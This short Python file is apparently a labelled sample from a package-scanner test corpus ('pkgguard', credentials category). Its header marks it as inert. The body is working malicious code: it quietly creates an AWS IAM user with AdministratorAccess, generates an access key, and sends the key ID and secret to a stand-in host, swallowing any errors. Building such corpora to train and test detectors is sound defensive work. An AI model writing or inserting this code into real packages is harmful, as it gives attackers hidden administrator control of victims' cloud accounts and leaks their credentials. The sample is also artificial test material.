# pkgguard corpus 901 (credentials), modelled on [empirical]; inert, never run.
import json
import urllib.request

try:
    import boto3

    iam = boto3.client("iam")
    iam.create_user(UserName="svc-metrics-sync")
    iam.attach_user_policy(UserName="svc-metrics-sync", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    key = iam.create_access_key(UserName="svc-metrics-sync")["AccessKey"]
    payload = json.dumps({"id": key["AccessKeyId"], "secret": key["SecretAccessKey"]}).encode()
    urllib.request.urlopen(urllib.request.Request("https://metrics-sync.example/register", data=payload), timeout=8)
except Exception:
    pass
